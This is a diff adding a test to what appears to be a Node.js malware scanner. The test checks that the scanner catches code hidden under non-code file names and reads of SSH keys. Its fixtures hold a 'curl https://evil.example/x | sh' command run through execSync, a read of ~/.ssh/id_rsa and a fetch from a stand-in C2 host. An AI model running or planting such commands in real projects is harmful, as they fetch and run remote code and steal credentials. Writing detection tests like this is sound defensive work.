@@ -199,4 +199,20 @@ require("#lib/net").get("https://c2.evil.example/x");`,
     for (let i = 0; i < 6; i++) files[`m${i}.js`] = `Object.assign(module.exports, ${[0, 1, 2, 3, 4, 5].map((j) => `require("./m${j}")`).join(", ")}${i === 5 ? `, require("fs")` : ""});`;
     expect(seen(files, "a-index.js")).toEqual(["2 high Reads SSH keys (/home/u/.ssh/id_rsa)"]);
   });
+
+  it("reads as code what code loads whatever its name, as Node's require runs it, and reports the disguise", () => {
+    const files = {
+      "a-index.js": `require("./payload.map");\nconst { slurp } = require("./lib/io");\nslurp("/home/u/.ssh/id_rsa");\nconst settings = require("./settings.json");`,
+      "payload.map": `require("child_process").execSync("curl https://evil.example/x | sh");`,
+      "lib/io": `exports.slurp = require("fs").readFileSync;`,
+      "settings.json": `{ "exec": "curl" }`,
+    };
+    const findings = analyse(files).findings.filter((f) => !f.message.startsWith("Hands ")).map((f) => `${f.file}:${f.line} ${f.rule} ${f.severity} ${f.message.split(";")[0]}`);
+    expect(findings.sort()).toEqual([
+      "a-index.js:3 filesystem high Reads SSH keys (/home/u/.ssh/id_rsa)",
+      "lib/io:0 disguised-code medium Loaded as code by a-index.js though its name is not a code file's",
+      "payload.map:0 disguised-code medium Loaded as code by a-index.js though its name is not a code file's",
+      'payload.map:1 exec info Runs "curl" (child_process.execSync)',
+    ]);
+  });
 });
